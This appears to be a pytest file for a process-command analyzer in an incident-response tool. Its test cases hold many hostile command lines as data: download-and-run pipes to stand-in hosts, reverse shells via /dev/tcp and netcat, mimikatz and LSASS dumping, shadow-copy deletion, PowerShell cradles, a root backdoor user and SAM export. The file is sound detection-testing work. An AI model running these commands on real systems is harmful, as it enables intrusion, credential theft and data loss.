"""analyzer.process: command-line techniques, ancestry, locations, the administrator's allow list."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from autoir.analyzers.processes import PLUGIN, ProcessAnalyzer
from autoir.analyzers.processes.lineage import base_name
from autoir.domain.alerts.enums import EvidenceVerdict
from autoir.domain.verdicts.observables import Observable, ObservableKind, ProcessSubject
from autoir.ports.analyzer import AnalysisContext

CONTEXT = AnalysisContext(now=datetime(2026, 11, 22, tzinfo=UTC))
ANALYZER = ProcessAnalyzer()


def judge(subject: ProcessSubject) -> tuple[EvidenceVerdict, set[str]]:
    report = ANALYZER.analyze(subject, CONTEXT)
    return report.verdict, {r.code for r in report.reasons}


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("bash -c 'curl -fsSL http://198.51.100.7/x.sh | sh'", "process.download_pipe_shell"),
        ("wget -qO- https://evil.example/i | sudo bash", "process.download_pipe_shell"),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "process.reverse_shell"),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f",
            "process.reverse_shell",
        ),
        ("nc -e /bin/sh 203.0.113.9 4444", "process.reverse_shell"),
        (
            'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
            "process.credential_dumping_tool",
        ),
        ("procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp", "process.lsass_dump"),
        (
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\o.dmp full",
            "process.lsass_dump",
        ),
        ("vssadmin.exe delete shadows /all /quiet", "process.shadow_copy_deletion"),
        (
            "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
            "process.powershell_cradle",
        ),
        ("echo ZWNobyBoaQ== | base64 -d | bash", "process.base64_to_shell"),
        ("./xmrig -o stratum+tcp://pool.example:3333 -u wallet", "process.cryptominer"),
        ("useradd -o -u 0 -g 0 backdoor", "process.root_user_creation"),
        ("reg save HKLM\\SAM C:\\Users\\Public\\sam.hive", "process.sam_hive_export"),
        ("mshta http://203.0.113.9/payload.hta", "process.script_host_remote"),
        (
            "/s /n /u /i:https://203.0.113.9/x.sct scrobj.dll",
            "process.scriptlet_remote_registration",
        ),
        (
            "notreg.exe /s /i:http://203.0.113.9/r scrobj.dll",
            "process.scriptlet_remote_registration",
        ),
        (
            'WMIC.exe /namespace:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="x"',
            "process.wmi_event_consumer",
        ),
        ("cmd.exe /Q /c dir 1> \\\\10.0.0.2\\ADMIN$\\__123.45 2>&1", "process.admin_share_output"),
        (
            "powershell -c &([scriptblock]::create((New-Object IO.StreamReader(x))))",
            "process.powershell_stager",
        ),
        ("rdrleakdiag.exe /p 640 /o C:\\x /fullmemdmp /wait 1", "process.lsass_dump"),
        ("dumper.exe -p lsass.exe -o out.dmp", "process.lsass_dump"),
    ],
)
def test_decisive_techniques_are_malicious(command: str, code: str) -> None:
    verdict, codes = judge(ProcessSubject(image=command.split(maxsplit=1)[0], command_line=command))
    assert code in codes
    assert verdict is EvidenceVerdict.MALICIOUS


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/python3 -m pip install --user requests",
        "curl -fsSL https://example.org/file.tar.gz -o /opt/file.tar.gz",
        "systemctl restart nginx",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
        "powershell.exe -NoProfile -File C:\\scripts\\backup.ps1",
        "cat /etc/passwd",
        "tar czf /var/backups/etc.tgz /etc",
        "git clone https://github.com/example/project.git",
    ],
)
def test_ordinary_administration_is_not_a_threat(command: str) -> None:
    verdict, codes = judge(ProcessSubject(image=command.split(maxsplit=1)[0], command_line=command))
    assert verdict is EvidenceVerdict.NO_THREATS_FOUND, codes


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("rundll32.exe zipfldr.dll,RouteTheCall C:\\x\\a.exe", "process.rundll32_proxy"),
        ("rundll32 url.dll,FileProtocolHandler C:\\x\\a.exe", "process.rundll32_proxy"),
        ("rundll32.exe C:\\Users\\Public\\picture.jpg,Start", "process.rundll32_odd_module"),
        ("pcalua.exe -a C:\\x\\a.exe", "process.lolbin_execute"),
        ("forfiles /p C:\\Windows /m notepad.exe /c calc.exe", "process.lolbin_execute"),
        (
            "desktopimgdownldr /lockscreenurl:https://x.example/a.exe /eventName:x",
            "process.lolbin_download",
        ),
        ("wmic /node:10.0.0.2 process call create calc.exe", "process.wmi_process_create"),
        (
            (
                'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution '
                'Options\\sethc.exe" /v Debugger /d cmd.exe'
            ),
            "process.ifeo_or_silent_exit_hijack",
        ),
        (
            (
                "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System "
                "/v EnableLUA /t REG_DWORD /d 0 /f"
            ),
            "process.uac_disabled",
        ),
        (
            (
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d "
                "C:\\Users\\bob\\AppData\\Roaming\\u.exe"
            ),
            "process.autorun_from_user_folder",
        ),
        (
            "netsh interface portproxy add v4tov4 listenport=8001 connectport=3389",
            "process.port_forwarding",
        ),
        ("C:\\Tools\\Rubeus.exe kerberoast", "process.offensive_tool"),
        ("powershell -nop -w hidden -noni -c calc", "process.hidden_bypass_powershell"),
    ],
)
def test_windows_techniques_are_at_least_suspicious(command: str, code: str) -> None:
    verdict, codes = judge(ProcessSubject(image=command.split(maxsplit=1)[0], command_line=command))
    assert code in codes
    assert verdict in {EvidenceVerdict.SUSPICIOUS, EvidenceVerdict.MALICIOUS}


@pytest.mark.parametrize(
    "command",
    [
        "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
        "rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry /il",
        "netsh interface ip show config",
        "reg add HKCU\\Software\\Vendor\\App /v Theme /d dark /f",
        "reg query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options",
        "wmic process list brief",
        "msiexec /i C:\\Installers\\app.msi /qn",
        "schtasks /query /fo LIST",
    ],
)
def test_ordinary_windows_administration_is_not_a_threat(command: str) -> None:
    verdict, codes = judge(ProcessSubject(image=command.split(maxsplit=1)[0], command_line=command))
    assert verdict is EvidenceVerdict.NO_THREATS_FOUND, codes


def test_uac_bypass_and_remote_execution_parents() -> None:
    verdict, codes = judge(
        ProcessSubject(
            image="C:\\Windows\\System32\\cmd.exe",
            command_line="cmd.exe",
            parent_image="C:\\Windows\\System32\\fodhelper.exe",
        )
    )
    assert (verdict, codes) == (EvidenceVerdict.MALICIOUS, {"process.uac_bypass_child"})
    verdict, codes = judge(
        ProcessSubject(
            image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            command_line="powershell.exe -c Get-Process",
            parent_image="C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        )
    )
    assert (verdict, codes) == (EvidenceVerdict.SUSPICIOUS, {"process.remote_execution_child"})


def test_a_document_application_starting_a_shell_is_malicious_and_an_ancestor_suspicious() -> None:
    direct = ProcessSubject(
        image="C:\\Windows\\System32\\cmd.exe",
        command_line="cmd.exe /c echo hi",
        parent_image="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    )
    verdict, codes = judge(direct)
    assert verdict is EvidenceVerdict.MALICIOUS
    assert "process.document_spawned_shell" in codes
    indirect = ProcessSubject(
        image="/usr/bin/python3",
        command_line="python3 -c 'print(1)'",
        parent_image="/bin/sh",
        ancestors=("/usr/lib/libreoffice/program/soffice.bin",),
    )
    verdict, codes = judge(indirect)
    assert verdict is EvidenceVerdict.SUSPICIOUS
    assert codes == {"process.document_ancestor_shell"}


def test_a_web_server_starting_a_shell_is_suspicious() -> None:
    verdict, codes = judge(
        ProcessSubject(image="/bin/sh", command_line="sh -c id", parent_image="/usr/sbin/nginx")
    )
    assert verdict is EvidenceVerdict.SUSPICIOUS
    assert "process.server_spawned_shell" in codes


def test_weak_findings_pool_and_a_hidden_staging_binary_is_suspicious() -> None:
    verdict, codes = judge(ProcessSubject(image="/tmp/.x/kworker", command_line="/tmp/.x/kworker"))  # noqa: S108
    assert codes == {"process.runs_from_staging_folder", "process.hidden_path"}
    assert verdict is EvidenceVerdict.SUSPICIOUS
    verdict, codes = judge(ProcessSubject(image="/tmp/build/run", command_line="/tmp/build/run"))  # noqa: S108
    assert codes == {"process.runs_from_staging_folder"}
    assert verdict is EvidenceVerdict.NO_THREATS_FOUND


def test_the_payload_on_the_parent_command_line_counts_slightly_less() -> None:
    report = ANALYZER.analyze(
        ProcessSubject(
            image="/usr/bin/curl",
            command_line="curl -fsSL http://198.51.100.7/x.sh",
            parent_image="/bin/bash",
            parent_command_line="bash -c 'curl -fsSL http://198.51.100.7/x.sh | bash'",
        ),
        CONTEXT,
    )
    assert report.verdict is EvidenceVerdict.SUSPICIOUS
    assert report.reasons[0].text.startswith("Parent: ")
    assert Observable(ObservableKind.URL, "http://198.51.100.7/x.sh") in report.observables


def test_allowed_patterns_decide_alone_and_bad_settings_are_rejected() -> None:
    analyzer = PLUGIN.create({"allowed_command_patterns": [r"^/opt/ansible/.*curl .* \| sh$"]})
    report = analyzer.analyze(
        ProcessSubject(image="/bin/sh", command_line="/opt/ansible/run curl https://x | sh"),
        CONTEXT,
    )
    assert report.verdict is EvidenceVerdict.NO_THREATS_FOUND
    assert report.authoritative
    with pytest.raises(ValueError, match="unknown_setting"):
        PLUGIN.create({"unknown_setting": 1})


def test_a_bare_command_line_observable_is_judged_and_other_subjects_are_not() -> None:
    report = ANALYZER.analyze(
        Observable(ObservableKind.PROCESS, "vssadmin delete shadows /all"), CONTEXT
    )
    assert report.verdict is EvidenceVerdict.MALICIOUS
    other = ANALYZER.analyze(Observable(ObservableKind.URL, "http://x"), CONTEXT)
    assert other.verdict is EvidenceVerdict.UNKNOWN


@pytest.mark.parametrize(
    ("image", "name"),
    [
        ("C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "winword"),
        ("/usr/bin/python3.11", "python3"),
        ('"C:\\Windows\\System32\\cmd.exe"', "cmd"),
        ("/usr/bin/php8.2", "php"),
        (None, ""),
    ],
)
def test_base_names(image: str | None, name: str) -> None:
    assert base_name(image) == name
